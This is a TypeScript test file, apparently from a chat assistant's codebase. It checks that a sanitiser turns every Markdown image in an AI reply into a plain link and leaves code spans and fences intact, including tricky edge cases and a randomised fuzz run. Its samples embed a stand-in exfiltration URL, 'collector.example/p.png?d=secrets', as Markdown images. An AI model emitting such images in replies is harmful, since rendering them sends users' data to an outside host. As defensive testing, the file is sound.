// A chat reply shows no image: outside code every `![` becomes `[` (a link), and code keeps its `![`
// only where it renders as code. Judged by rendering with marked (GFM), as a client of the API
// that shows `reply` as Markdown would: no <img> may come out, whatever the model wrote.
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { rng } from '../../infra/local/demo-fleet.js';
import { withoutRemoteImages } from '../../shared/chat/assistant.js';

const leak = 'https://collector.example/p.png?d=secrets';
const rendered = (markdown: string) => marked.parse(markdown, { async: false, gfm: true });

describe('a chat reply without images', () => {
  it('keeps code as written, where it renders as code', async () => {
    const code = [
      "`!['a'].includes(x)`",
      "``a ` !['b'] ``",
      "```js\nif (!['c'].includes(y)) return;\n```",
      "~~~\n!['d']\n~~~",
      "- item\n  ```\n  !['e']\n  ```",
    ];
    for (const sample of code) {
      expect(await withoutRemoteImages(sample), sample).toBe(sample);
      expect(await withoutRemoteImages(`![img](${leak})\n\n${sample}`), sample).toBe(`[img](${leak})\n\n${sample}`);
    }
  });

  it('takes for code only what renders as code', async () => {
    const text = [
      // Three backquotes mid-line open no block: what follows is text.
      `Use the \`\`\` operator; ![x](${leak})`,
      // A backquote after a backslash opens nothing.
      `\\\`x ![x](${leak}) \``,
      // A fence in a list item ends where the item does.
      `- item\n  \`\`\`\n  code\ntext ![x](${leak})\n\`\`\``,
      // A backquote fence's info holds no backquote: this is a code span, then text.
      `\`\`\`a\`\`\`\n![x](${leak})`,
      // A span paired over two lines leaves the next backquote unpaired: the image after it is text.
      `\`a\nb\` c \`d ![x](${leak}) e\``,
      `\`    # \n\`\`\`\`\`\`\`\`> \`| ![x](${leak})1. \`\n[1]: ua\`\`  ![x](${leak})~~~`,
    ];
    for (const sample of text) {
      const out = await withoutRemoteImages(sample);
      expect(rendered(out), sample).not.toContain('<img');
      expect(rendered(out), sample).toContain(leak); // as a link's address or text, not lost
    }
  });

  it('lets no image through, whatever mix of code, containers and images the model writes', async () => {
    const pieces = ['`', '``', '```', '~~~', '\n', '\n\n', '  ', '    ', '- ', '1. ', '> ', '# ', '![x](u)', '![r][1]', '\n[1]: u', 'a', ' ', '\\', '*', '|'];
    const next = rng(67); // the same strings every run
    let keptInCode = 0;
    for (let i = 0; i < 3000; i++) {
      const length = 3 + Math.floor(next() * 25);
      let sample = '';
      for (let j = 0; j < length; j++) sample += pieces[Math.floor(next() * pieces.length)];
      const out = await withoutRemoteImages(sample);
      if (out.includes('![')) keptInCode += 1;
      expect(rendered(out), JSON.stringify(sample)).not.toContain('<img');
    }
    expect(keptInCode).toBeGreaterThan(100); // code did keep its `![` in many: the check is not vacuous
  });
});
